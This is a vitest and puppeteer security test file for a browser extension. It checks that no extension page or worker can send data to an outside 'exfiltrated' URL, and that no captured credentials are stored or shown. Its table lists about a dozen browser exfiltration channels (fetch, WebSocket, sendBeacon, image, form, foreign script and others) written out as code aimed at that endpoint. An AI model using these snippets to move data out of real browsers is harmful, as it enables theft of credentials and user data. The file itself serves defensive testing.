/** The browser itself lets nothing out of the extension, and no raw credential is anywhere behind the border. */
import type { Frame, Page, WebWorker } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { extension, play, readVerdicts, worker } from '../../src/demo/drive';
import { scenarios } from '../../src/demo/scenarios';
import { makeWorld, panelOf, popupOf, until, type World } from './world';

const AWAY = 'https://api.tokenim.com/exfiltrated';

/** Tries one way out; resolves when it has been tried. Runs in a page or in the worker. */
const WAYS: { readonly [way: string]: string } = {
  fetch: `fetch('${AWAY}?fetch', { mode: 'no-cors' }).catch(() => 0)`,
  'fetch with credentials': `fetch('${AWAY}?post', { method: 'POST', body: 'x', credentials: 'include', mode: 'no-cors' }).catch(() => 0)`,
  WebSocket: `new Promise((done) => { try { const socket = new WebSocket('${AWAY.replace('https', 'wss')}'); socket.onerror = socket.onopen = () => done(0); } catch { done(0); } })`,
};
const PAGE_WAYS: { readonly [way: string]: string } = {
  ...WAYS,
  XMLHttpRequest: `new Promise((done) => { const call = new XMLHttpRequest(); call.onloadend = () => done(0); call.open('GET', '${AWAY}?xhr'); call.send(); })`,
  sendBeacon: `Promise.resolve(navigator.sendBeacon('${AWAY}?beacon', 'x'))`,
  image: `new Promise((done) => { const image = new Image(); image.onload = image.onerror = () => done(0); image.src = '${AWAY}?image'; })`,
  stylesheet: `new Promise((done) => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload = link.onerror = () => done(0); link.href = '${AWAY}?css'; document.head.append(link); })`,
  'foreign script': `new Promise((done) => { try { const script = document.createElement('script'); script.onload = script.onerror = () => done(0); script.src = '${AWAY}?script'; document.head.append(script); } catch { done(0); } })`,
  frame: `new Promise((done) => { const frame = document.createElement('iframe'); frame.onload = frame.onerror = () => done(0); frame.src = '${AWAY}?frame'; document.body.append(frame); setTimeout(() => done(0), 500); })`,
  form: `new Promise((done) => { const form = document.createElement('form'); form.method = 'post'; form.action = '${AWAY}?form'; form.target = '_blank'; document.body.append(form); form.submit(); setTimeout(() => done(0), 500); })`,
  EventSource: `new Promise((done) => { try { const source = new EventSource('${AWAY}?events'); source.onerror = () => { source.close(); done(0); }; } catch { done(0); } })`,
  worker: `new Promise((done) => { try { const one = new Worker('${AWAY}?worker'); one.onerror = () => done(0); } catch { done(0); } })`,
};

describe('nothing leaves', () => {
  let world: World;
  let contexts: { readonly [name: string]: Frame | Page | WebWorker };
  beforeAll(async () => {
    world = await makeWorld();
    const { devtools, panel } = await panelOf(world);
    // As a tab of its own: over the page it would close as soon as a way out opens a window.
    const popup = await world.browser.newPage();
    await popup.goto(`chrome-extension://${(await extension(world.browser)).id}/src/entry/popup/index.html`);
    const guide = await world.browser.newPage();
    await guide.goto(popup.url().replace('popup', 'guide'));
    const reports = await world.browser.newPage();
    await reports.goto(popup.url().replace('popup', 'reports'));
    const review = await world.browser.newPage();
    await review.goto(popup.url().replace('popup', 'review'));
    const hidden = devtools.frames().find((frame) => /entry\/devtools\//.test(frame.url()));
    contexts = { worker: await worker(world.browser), popup, guide, review, reports, panel, ...(hidden === undefined ? {} : { 'devtools page': hidden }) };
  });
  afterAll(() => world.close());

  test('every context is tried', () => {
    expect(Object.keys(contexts)).toEqual(['worker', 'popup', 'guide', 'review', 'reports', 'panel', 'devtools page']);
  });

  test.each(['worker', 'popup', 'guide', 'review', 'reports', 'panel', 'devtools page'])('from the %s, by any way', async (name) => {
    const context = contexts[name];
    if (context === undefined) return expect.fail(`there is no ${name}`);
    for (const [way, code] of Object.entries(name === 'worker' ? WAYS : PAGE_WAYS)) {
      await context.evaluate(code);
      expect(world.simulator.log.filter(({ path }) => path.startsWith('/exfiltrated')), `${way} got out`).toEqual([]);
    }
  });

  test('the same way from the page does get out: the trial can fail', async () => {
    await world.page.evaluate(`fetch('${AWAY}?control', { mode: 'no-cors' }).catch(() => 0)`);
    expect(world.simulator.log.filter(({ path }) => path.startsWith('/exfiltrated'))).toHaveLength(1);
  });
});

describe('no raw credential is kept', () => {
  let world: World;
  beforeAll(async () => {
    world = await makeWorld();
  });
  afterAll(() => world.close());

  test('in the database, the session, the panel or the popup', async () => {
    const { panel } = await panelOf(world);
    const popup = await popupOf(world);
    const withCredentials = scenarios.filter(({ call }) => call.auth !== undefined || call.sign !== undefined);
    for (const { id } of withCredentials) await play(world.page, id);
    await until(async () => (await readVerdicts(panel)).length >= 10, 'the calls in the panel');
    // What really went over the wire is what must be nowhere.
    const secrets = new Set<string>();
    for (const { headers, path } of world.simulator.log) {
      for (const name of ['authorization', 'x-api-key', 'cookie', 'x-signature']) {
        for (const word of String(headers[name] ?? '').split(/[\s";=]+/)) if (word.length >= 16) secrets.add(word);
      }
      for (const [name, value] of new URL(path, 'https://api.tokenim.com').searchParams) if (/token|key/.test(name) && value.length >= 16) secrets.add(value);
    }
    expect(secrets.size).toBeGreaterThan(5);
    const dump = await (await worker(world.browser)).evaluate(dumpEverything);
    const shown = [await panel.$eval('html', (html) => html.outerHTML), await popup.$eval('html', (html) => html.outerHTML)].join('\n');
    expect(dump.length).toBeGreaterThan(10_000);
    for (const secret of secrets) {
      const signature = secret.split('.').at(-1) ?? secret;
      for (const part of [secret, signature].filter((text) => text.length >= 16)) {
        expect(dump.includes(part), `a value of ${part.length} characters is stored`).toBe(false);
        expect(shown.includes(part), `a value of ${part.length} characters is shown`).toBe(false);
      }
    }
  });
});

/** Runs in the worker: everything that the extension keeps, as text. */
async function dumpEverything(): Promise<string> {
  const { storage } = (globalThis as unknown as { chrome: { storage: Record<string, { get(keys: null): Promise<object> }> } }).chrome;
  const areas = await Promise.all(['session', 'local'].map((area) => storage[area]?.get(null)));
  const request = indexedDB.open('inspector');
  const database = await new Promise<IDBDatabase>((resolve) => request.addEventListener('success', () => resolve(request.result)));
  const all = database.transaction('calls').objectStore('calls').getAll();
  const calls = await new Promise<unknown>((resolve) => all.addEventListener('success', () => resolve(all.result)));
  database.close();
  return JSON.stringify([areas, calls]);
}
